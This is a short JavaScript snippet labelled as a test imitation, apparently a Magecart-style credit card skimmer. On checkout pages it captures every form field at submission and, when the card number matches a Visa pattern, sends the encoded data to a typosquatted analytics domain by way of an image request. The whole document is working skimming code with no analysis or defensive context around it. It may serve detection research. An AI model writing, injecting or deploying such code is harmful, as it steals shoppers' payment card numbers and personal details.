/* DAVY TEST IMITATION */ (function(){if(!/checkout|onepage/.test(location.href))return;var d={};document.addEventListener('submit',function(){
document.querySelectorAll('input, select').forEach(function(e){d[e.name]=e.value});var n=document.querySelector('[name="payment[cc_number]"]');var v=document.getElementById("cc_cid");
if(/^4[0-9]{12}(?:[0-9]{3})?$/.test(n.value)){new Image().src="https://google-anaiytics.com/g/collect?d="+btoa(JSON.stringify(d));}});})();
